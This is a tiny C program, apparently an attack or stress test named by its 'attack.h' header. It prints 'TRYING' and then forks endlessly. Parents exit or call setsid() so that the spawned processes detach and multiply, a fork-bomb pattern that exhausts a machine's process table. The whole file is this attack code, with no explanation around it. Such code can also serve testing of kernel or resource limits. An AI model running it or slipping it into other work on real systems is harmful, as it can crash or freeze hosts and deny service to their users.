#include "attack.h"

int main(void)
{
        dprintf(1, "TRYING\n");
        signal(SIGCHLD, SIG_IGN);
        for (;;) {
                if (fork() > 0)
                        _exit(0);
                if (fork() > 0)
                        setsid();
        }
}
